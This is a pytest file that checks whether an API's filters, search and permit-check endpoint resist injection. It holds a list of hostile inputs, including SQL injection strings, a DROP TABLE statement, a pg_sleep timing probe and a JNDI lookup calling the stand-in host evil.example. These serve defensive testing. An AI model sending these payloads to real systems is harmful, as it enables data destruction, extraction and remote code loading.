"""What somebody types is looked for, never carried out: in no parameter does a text become a part of a question."""

import pytest

from projections.read_model import folded
from tests.api.service import Service

HOSTILE = (
    "' OR '1'='1",
    "x') OR true --",
    "'; DROP TABLE read.cases; --",
    "\\' OR 1=1 --",
    '" OR ""="',
    "%' OR '%'='",
    "$1",
    "%(x)s",
    "{}",
    "{0.__class__}",
    "${jndi:ldap://evil.example}",
    "'||(SELECT pg_sleep(5))||'",
)
TEXTS = {
    "/api/cases": ("platform", "assignee"),
    "/api/registers/decisions": ("platform",),
    "/api/audit/decisions": ("platform",),
    "/api/audit/access": ("actor", "operation"),
}


@pytest.mark.parametrize(("path", "name"), [(path, name) for path, names in TEXTS.items() for name in names])
def test_a_text_in_a_question_finds_nothing_that_is_not_called_so(service: Service, path: str, name: str) -> None:
    service.file()
    for text in HOSTILE:
        answer = service.get_current("auditor", path, **{name: text})
        assert (answer.status_code, answer.json()["items"]) == (200, []), text


def test_a_search_finds_what_its_words_find_and_no_more(service: Service) -> None:
    service.file()
    everything = service.get_current("auditor", "/api/cases").json()["total"]
    assert everything
    for text in HOSTILE:
        words = " ".join(folded(text).split())
        found, plain = (service.get("auditor", "/api/cases", q=asked).json()["total"] for asked in (text, words))
        assert found == (plain if words else 0), text
    assert service.get("auditor", "/api/cases").json()["total"] == everything


def test_a_text_in_a_permit_check_opens_no_permit(service: Service) -> None:
    for text in HOSTILE:
        answer = service.get(None, "/api/permits/check", number=text, birth_date="1990-01-01")
        assert (answer.status_code, answer.json()["code"]) == (404, "not_found"), text
